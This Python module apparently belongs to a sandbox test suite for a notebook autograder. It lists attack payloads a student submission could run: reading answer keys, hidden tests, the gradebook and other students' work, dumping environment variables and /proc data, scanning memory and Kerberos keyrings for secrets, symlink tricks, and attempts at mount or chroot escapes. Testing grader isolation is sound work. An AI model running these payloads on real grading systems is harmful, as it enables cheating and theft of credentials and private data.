"""Hand-ins that want to see what is not theirs."""

from __future__ import annotations

import os
from pathlib import Path

from attack import Attack

__all__ = ["READING"]


def link_out(name: str, folder: Path) -> None:
    """A link in the submission to the key of the course."""
    root = folder.parents[3]
    (folder / "notes.txt").symlink_to(root / "keys" / "maint.key")


def link_to_folder(name: str, folder: Path) -> None:
    """A linked folder: everything that others have handed in."""
    (folder / "others").symlink_to(folder.parents[1])


def link_behind_folders(name: str, folder: Path) -> None:
    """A link to the key, and folders so deep that who screens the hand-in gives up before it."""
    link_out(name, folder)
    number = os.open(folder, os.O_RDONLY)
    for _ in range(25):
        os.mkdir("a" * 200, dir_fd=number)
        inner = os.open("a" * 200, os.O_RDONLY, dir_fd=number)
        os.close(number)
        number = inner
    os.close(number)


READING = [
    Attack("read-source", "read the source notebook with its hidden tests", """
from pathlib import Path
for place in (*Path("../../..").glob("source/*/*.ipynb"), *Path(P["course"]).glob("source/*/*")):
    print(place.read_text())
""", loot="source"),
    Attack("read-answers", "read the answer keys of the labs", """
from pathlib import Path
for place in Path(P["project"], "grading", "answers").glob("*.py"):
    print(place.read_text())
try:
    import grading.answers, inspect
    print(inspect.getsource(grading.answers))
except ImportError:
    pass
""", loot="answers", stock=False),
    Attack("read-key", "read the master key", """
print(open(P["key"]).read())
""", loot="secret key"),
    Attack("read-gradebook", "read the gradebook with everybody's marks and hidden tests", """
import sqlite3
for row in sqlite3.connect(P["gradebook"]).execute("select name, source from source_cell"):
    print(row)
""", loot="source"),
    Attack("read-others", "read what others handed in", """
from pathlib import Path
for step in ("submitted", "autograded"):
    for place in Path(P["course"], step).glob("*/*/*.ipynb"):
        print([line for line in place.read_text().splitlines() if "written by" in line])
for place in Path("../..").glob("*/*/*.ipynb"):
    print([line for line in place.read_text().splitlines() if "written by" in line])
""", loot="of others"),
    Attack("read-environment", "read the grader's environment", """
import os
print(dict(os.environ))
""", loot="in environment"),
    Attack("read-proc", "read the environment of other processes in /proc", """
import glob, os
shut_in = os.getpid() == 1  # elsewhere only those it may look into: its own and the grader's
for place in glob.glob("/proc/*/environ") if shut_in else [f"/proc/{os.getppid()}/environ"]:
    try:
        print(open(place, errors="replace").read())
    except OSError:
        pass
""", loot="in environment"),
    Attack("read-root-of-parent", "reach the grader's files through /proc/…/root and cwd", """
import glob, os
shut_in = os.getpid() == 1
for place in glob.glob("/proc/[0-9]*") if shut_in else [f"/proc/{os.getppid()}"]:
    for inner in ("cwd/gradebook.db", "root" + P["key"]):
        try:
            open(os.path.join(place, inner)).close()
            if int(os.path.basename(place)) != os.getpid():
                print("reached another process")
        except OSError:
            pass
""", loot="reached another process"),
    Attack("read-open-files", "read through files the grader left open", """
import glob, os
for place in glob.glob("/proc/self/fd/*"):
    try:
        target = os.readlink(place)
        print(target)
        print(open(place).read(2000) if target.startswith(P["root"]) else "")
    except OSError:
        pass
""", loot="secret key"),
    Attack("read-home", "read files in the grader's home", """
from pathlib import Path
for place in (P["home"], "~"):
    for file in Path(place).expanduser().glob("*.txt"):
        print(file.read_text())
""", loot="at home"),
    Attack("link-out", "a link in the hand-in to the key, read as a file of one's own", """
print(open("notes.txt").read())
""", loot="secret key", hand_in=link_out),
    Attack("link-behind-folders", "the same beside folders in which every search loses its way", """
print(open("notes.txt").read())
""", loot="secret key", hand_in=link_behind_folders, record=False),
    Attack("link-to-folder", "a linked folder in the hand-in: everything others handed in", """
from pathlib import Path
for place in Path("others").rglob("*.ipynb"):
    print([line for line in place.read_text().splitlines() if "written by" in line])
""", loot="of others", hand_in=link_to_folder),
    Attack("read-session-keys", "read the keys of the grader's session: tickets of Kerberos", """
import ctypes, platform
call, number = ctypes.CDLL(None).syscall, 250 if platform.machine() == "x86_64" else 219
key = call(number, 10, ctypes.c_long(-3), b"user", b"labsim-ticket", 0)  # search, in the session's
text = ctypes.create_string_buffer(100)
call(number, 11, key, text, 100)  # read
print(key, text.value)
""", loot="of the session"),
    Attack("read-own-memory", "look for keys in the memory the kernel was forked with", """
import re
piece = P["key_begins"].encode()
found = set()
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        start, end, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
        if rights.startswith("rw") and int(end, 16) - int(start, 16) < 5e8:
            try:
                memory.seek(int(start, 16))
                text = memory.read(int(end, 16) - int(start, 16))
                found |= set(re.findall(piece + b"[0-9a-f]{52}", text))
            except OSError:
                pass
print("keys:", found)
""", loot="secret key", stock=False),
    Attack("mount-disk", "see the whole disk: mount, new namespaces, device files", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tried = {"userns": libc.unshare(0x10000000) if os.getpid() == 1 else -1}
os.makedirs("m", exist_ok=True)
tried["mount"] = libc.mount(b"proc", b"m", b"proc", 0, None) if os.getpid() == 1 else -1
tried["chroot"] = libc.chroot(b"/proc/1/root") if os.getpid() == 1 else -1
try:
    os.mknod("disk", 0o60600, os.makedev(8, 0)); tried["mknod"] = 0
except OSError:
    tried["mknod"] = -1
print("privileged" if 0 in tried.values() else "refused", tried)
""", loot="privileged", harmless=False),
]  # fmt: skip
